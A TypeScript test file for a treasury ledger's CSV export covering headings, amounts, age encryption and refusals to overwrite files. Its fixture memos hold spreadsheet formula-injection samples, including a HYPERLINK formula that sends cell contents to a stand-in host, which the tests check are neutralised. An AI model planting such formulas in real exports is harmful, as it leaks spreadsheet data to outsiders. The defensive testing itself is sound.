// A view of the ledger written to a CSV file: its rows and headings, text a spreadsheet would run
// guarded, the file encrypted with age (read back by Debian's age and by the library), and every
// refusal leaving nothing behind. Synthetic data only.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Decrypter, generateHybridIdentity, generateX25519Identity, identityToRecipient } from 'age-encryption';
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { say } from '../../../shared/messages/message.ts';
import { rejection } from '../treasuryFixture.ts';
import { ledgerWithAccounts } from './ledgerFixture.ts';

let closeAfter: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const close of closeAfter) await close();
  closeAfter = [];
});

/** A vault with a bail fund and a few entries, one memo of each kind a spreadsheet would run; and a folder to write into. */
async function meetingLedger() {
  const test = await ledgerWithAccounts();
  closeAfter.push(() => test.treasury.close());
  const { client, bank, venmo } = test;
  const bail = await client.funds.add({ name: 'Bail fund', restricted: true, purpose: 'Bail and court fees' });
  await client.ledger.record({ kind: 'contribution', date: '2026-11-01', amount: 120_050, accountId: bank.id, memo: '=HYPERLINK("http://example.org/?"&A1,"Click")' });
  await client.ledger.record({ kind: 'transfer', date: '2026-11-02', amount: 50_000, accountId: bank.id, toAccountId: bank.id, toFundId: bail.id, memo: '+1 for the bail fund' });
  await client.ledger.record({
    kind: 'disbursement',
    date: '2026-11-03',
    amount: 7_500,
    accountId: bank.id,
    fundId: bail.id,
    category: 'bail',
    recipientCode: 'R-7KQ2MX',
    memo: '-2 left, "quoted", and a comma',
  });
  await client.ledger.record({ kind: 'fee', date: '2026-11-04', amount: 25, accountId: venmo.id, memo: '@SUM(1)' });
  const out = join(test.root, 'usb');
  mkdirSync(out);
  return { ...test, bail, out };
}

function parsed(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/\r\n$/, ''), { skipEmptyLines: false }).data;
}

describe('a view written to a CSV file', () => {
  it('holds every entry of a fund’s view, newest first, with amounts and balances as numbers and formulas guarded', async () => {
    const { client, bank, bail, out } = await meetingLedger();
    await client.accounts.reconcile({ accountId: bank.id, date: '2026-11-02', statementBalance: 0, cleared: [2] });
    const path = join(out, 'bail.csv');
    expect(await client.ledger.exportCsv({ fundId: bail.id, path })).toEqual({ path, rows: 2, recipient: null, passphrase: null });
    const text = readFileSync(path, 'utf8');
    expect(parsed(text)).toEqual([
      [
        'Entry',
        'Date',
        'Kind',
        'Amount',
        'Currency',
        'Account',
        'To account',
        'Fund',
        'To fund',
        'Category',
        'Recipient code',
        'Memo',
        'Corrects entry',
        'Reversed by entry',
        'Cleared',
        'Balance after',
      ],
      ['3', '2026-11-03', 'Disbursement', '-75', 'USD', 'Credit union', '', 'Bail fund', '', 'Bail', 'R-7KQ2MX', '\'-2 left, "quoted", and a comma', '', '', '', '425'],
      ['2', '2026-11-02', 'Transfer', '500', 'USD', 'Credit union', 'Credit union', 'General', 'Bail fund', '', '', "'+1 for the bail fund", '', '', 'yes', '500'],
    ]);
    // The amount cell is a bare number: nothing before its minus sign.
    expect(text).toContain(',-75,USD,');
  });

  it('guards every cell a spreadsheet would run, and leaves out the balance where the view has none', async () => {
    const { client, out } = await meetingLedger();
    const path = join(out, 'all.csv');
    expect((await client.ledger.exportCsv({ path, language: 'es' })).rows).toBe(4);
    const [headings, ...rows] = parsed(readFileSync(path, 'utf8'));
    expect(headings).toEqual([
      'Movimiento',
      'Fecha',
      'Tipo',
      'Monto',
      'Moneda',
      'Cuenta',
      'A la cuenta',
      'Fondo',
      'Al fondo',
      'Categoría',
      'Código de destinatario',
      'Nota',
      'Corrige el movimiento',
      'Revertido por el movimiento',
      'Conciliado',
    ]);
    const memos = rows.map((row) => row[11]);
    expect(memos).toEqual(["'@SUM(1)", '\'-2 left, "quoted", and a comma', "'+1 for the bail fund", '\'=HYPERLINK("http://example.org/?"&A1,"Click")']);
    expect(rows.map((row) => row[3])).toEqual(['-0.25', '-75', '500', '1200.5']);
  });

  it('encrypted to a recipient, opens with Debian’s age (a classic one) and with the library (both kinds), and holds the same CSV', async () => {
    const { client, bail, out } = await meetingLedger();
    const plainPath = join(out, 'plain.csv');
    await client.ledger.exportCsv({ fundId: bail.id, path: plainPath });
    const plain = readFileSync(plainPath);
    for (const identity of [await generateX25519Identity(), await generateHybridIdentity()]) {
      const recipient = await identityToRecipient(identity);
      const path = join(out, `bail-${recipient.slice(0, 8)}.csv.age`);
      const written = await client.ledger.exportCsv({ fundId: bail.id, path, encrypt: { lock: 'recipient', recipient } });
      expect(written).toMatchObject({ path, rows: 2, recipient: { recipient }, passphrase: null });
      const sealed = readFileSync(path);
      expect(sealed.includes(Buffer.from('Bail fund'))).toBe(false);
      // Debian's age reads classic recipients; post-quantum ones are read by the library.
      if (!identity.startsWith('AGE-SECRET-KEY-PQ-')) {
        const identityFile = join(out, 'key.txt');
        writeFileSync(identityFile, `${identity}\n`);
        expect(execFileSync('age', ['-d', '-i', identityFile, path])).toEqual(plain);
      }
      const decrypter = new Decrypter();
      decrypter.addIdentity(identity);
      expect(Buffer.from(await decrypter.decrypt(sealed))).toEqual(plain);
    }
  });

  it('encrypted to a passphrase, makes six words and shows them once; they open the file', async () => {
    const { client, out } = await meetingLedger();
    const path = join(out, 'all.csv.age');
    const written = await client.ledger.exportCsv({ path, encrypt: { lock: 'passphrase' } });
    expect(written.passphrase?.split(' ')).toHaveLength(6);
    const decrypter = new Decrypter();
    decrypter.addPassphrase(written.passphrase ?? '');
    expect(Buffer.from(await decrypter.decrypt(readFileSync(path))).toString('utf8')).toContain('Credit union');
  });

  it('never writes over a file already there, and leaves nothing else behind', async () => {
    const { client, out } = await meetingLedger();
    const path = join(out, 'minutes.csv');
    writeFileSync(path, 'the meeting’s minutes');
    expect(await rejection(client.ledger.exportCsv({ path }))).toMatchObject({ code: 'NOT_PERMITTED', reason: say('ledgerExport.fileExists', { path }) });
    expect(readFileSync(path, 'utf8')).toBe('the meeting’s minutes');
    expect(readdirSync(out)).toEqual(['minutes.csv']);
  });

  it('refuses a path that is not whole, a folder that does not exist and a recipient that is not one, writing nothing', async () => {
    const { client, out } = await meetingLedger();
    expect(await rejection(client.ledger.exportCsv({ path: 'ledger.csv' }))).toMatchObject({ code: 'NOT_PERMITTED', reason: say('ledgerExport.pathNotFull') });
    const missing = join(out, 'no-such-folder');
    expect(await rejection(client.ledger.exportCsv({ path: join(missing, 'ledger.csv') }))).toMatchObject({ code: 'NOT_FOUND', reason: say('ledgerExport.noSuchFolder', { folder: missing }) });
    expect(await rejection(client.ledger.exportCsv({ path: join(out, 'ledger.csv'), encrypt: { lock: 'recipient', recipient: 'age1notarecipient' } }))).toMatchObject({ code: 'INVALID_INPUT' });
    expect(readdirSync(out)).toEqual([]);
  });
});
